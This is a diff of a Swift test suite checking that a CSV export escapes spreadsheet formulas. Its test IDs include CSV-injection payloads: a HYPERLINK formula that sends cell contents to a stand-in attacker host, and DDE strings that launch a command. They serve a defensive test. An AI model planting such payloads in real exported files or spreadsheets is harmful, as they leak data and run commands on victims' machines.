@@ -5,8 +5,10 @@ import Testing
 /// The cluster CSV never hands a spreadsheet a formula: cells that begin with `=`, `+`, `-`,
 /// `@`, a tab or a carriage return get a leading `'` (OWASP), unless `--csv-raw`.
 @Suite struct ClusterCSVTests {
-    static let ids = [#"=HYPERLINK("http://evil.example/?"&A1,"click")"#, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-                      "-2+3", "\tstart", "\rreturn", "plain id"]
+    static let ids = [
+        #"=HYPERLINK("http://evil.example/?"&A1,"click")"#, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3", "\tstart", "\rreturn", "plain id",
+    ]
 
     private static func run(_ extra: [String]) throws -> [String] {
         let scratch = try Scratch("csv")
@@ -14,7 +16,9 @@ import Testing
         let text = random.han(400)
         var lines = ""
         for (n, id) in ids.enumerated() {
-            let record = try JSONSerialization.data(withJSONObject: ["id": id, "text": text + String(repeating: "甲", count: n)])
+            let record = try JSONSerialization.data(withJSONObject: [
+                "id": id, "text": text + String(repeating: "甲", count: n),
+            ])
             lines += String(decoding: record, as: UTF8.self) + "\n"
         }
         let jsonl = try scratch.write("in.jsonl", text: lines)
